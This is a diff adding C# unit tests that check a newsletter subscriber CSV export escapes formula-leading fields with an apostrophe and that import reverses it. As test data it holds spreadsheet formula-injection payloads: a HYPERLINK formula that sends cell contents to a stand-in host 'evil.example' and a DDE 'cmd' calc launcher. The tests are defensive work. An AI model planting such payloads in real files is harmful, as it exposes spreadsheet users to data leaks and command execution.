@@ -330,6 +330,99 @@ public sealed class SubscriberCsvTests : IDisposable
         Assert.DoesNotContain(await fresh.Store.ListAsync(SubscriberStatus.Active, Cancel), s => s.Email == "gone@example.org");
     }
 
+    [Fact]
+    public async Task ExportAsync_NamesAndAddressesAFormulaCouldStartWith_WrittenAfterAnApostropheSoNoFieldIsAFormula()
+    {
+        // Names as a stranger types them into the public subscribe form.
+        string[] names = ["=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1 555 0100", "-Dash"];
+        string[] addresses = ["a@example.org", "=cmd@example.org", "+tag@example.org", "-dash@example.org"];
+        for (var i = 0; i < names.Length; i++)
+        {
+            Assert.True((await _harness.Service.SubscribeAsync(addresses[i], names[i], Cancel)).Accepted, addresses[i]);
+        }
+
+        var file = await ExportToFileAsync(_harness, "export.csv");
+
+        var text = await File.ReadAllTextAsync(file, Cancel);
+        Assert.Contains("a@example.org,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\",pending,", text, StringComparison.Ordinal);
+        Assert.Contains("\"'=cmd@example.org\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",pending,", text, StringComparison.Ordinal);
+        Assert.Contains("\"'+tag@example.org\",\"'+1 555 0100\",pending,", text, StringComparison.Ordinal);
+        Assert.Contains("\"'-dash@example.org\",\"'-Dash\",pending,", text, StringComparison.Ordinal);
+        var fields = ReadFields(text);
+        Assert.Equal(5 * 6, fields.Count);
+        Assert.All(fields, field => Assert.False(field.Length > 0 && "=+-@\t\r".Contains(field[0]), $"field starts a formula: {field}"));
+    }
+
+    [Fact]
+    public async Task ExportThenImport_FormulaLikeAndApostropheNamesIntoAFreshDatabase_KeepsEveryNameAndAddressExactly()
+    {
+        (string Email, string Name)[] subscribers =
+        [
+            ("a@example.org", "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")"),
+            ("b@example.org", "@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("c@example.org", "+1 555 0100"),
+            ("d@example.org", "-Dash"),
+            ("e@example.org", "'=already escaped"),
+            ("f@example.org", "''+two apostrophes"),
+            ("g@example.org", "'Neill"),
+            ("h@example.org", "Plain"),
+            ("=cmd@example.org", "Formula Address"),
+            ("'-quote@example.org", "Apostrophe Address"),
+        ];
+        foreach (var (email, name) in subscribers)
+        {
+            Assert.True((await _harness.Service.SubscribeAsync(email, name, Cancel)).Accepted, email);
+        }
+
+        var file = await ExportToFileAsync(_harness, "export.csv");
+        using var fresh = new SubscribersHarness();
+
+        var report = await fresh.ImportFileAsync(file, confirmed: true);
+
+        Assert.All(ReadFields(await File.ReadAllTextAsync(file, Cancel)), field => Assert.False(field.Length > 0 && "=+-@".Contains(field[0]), field));
+        AssertReport(report, added: subscribers.Length, known: 0, suppressed: 0);
+        Assert.Equal(subscribers.OrderBy(s => s.Email, StringComparer.Ordinal),
+            (await fresh.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)).OrderBy(s => s.Email, StringComparer.Ordinal));
+    }
+
+    [Fact]
+    public async Task ImportAsync_ApostropheBeforeAFormulaCharacter_TakenOffOtherApostrophesKept()
+    {
+        var file = Write("escaped.csv", "email,name\n'-dash@example.org,'=Sum\nann@example.org,'Neill\nbob@example.org,\"'@Bob\"\n");
+
+        var report = await _harness.ImportFileAsync(file);
+
+        AssertReport(report, added: 3, known: 0, suppressed: 0);
+        Assert.Equal(
+            [("-dash@example.org", "=Sum"), ("ann@example.org", "'Neill"), ("bob@example.org", "@Bob")],
+            (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
+    }
+
+    private static async Task<string> ExportToFileAsync(SubscribersHarness harness, string name)
+    {
+        var file = harness.Folder.Combine("csv/" + name);
+        Directory.CreateDirectory(Path.GetDirectoryName(file)!);
+        await using (var writer = new StreamWriter(file, append: false, Utf8NoBom))
+        {
+            await harness.Csv.ExportAsync(writer, Cancel);
+        }
+
+        return file;
+    }
+
+    /// <summary>Every field of every record, header included, as a spreadsheet would read them (quotes taken off).</summary>
+    private static List<string> ReadFields(string text)
+    {
+        using var parser = new CsvHelper.CsvParser(new StringReader(text), System.Globalization.CultureInfo.InvariantCulture);
+        var fields = new List<string>();
+        while (parser.Read())
+        {
+            fields.AddRange(parser.Record!);
+        }
+
+        return fields;
+    }
+
     private async Task<string> ExportAsync()
     {
         await using var writer = new StringWriter();
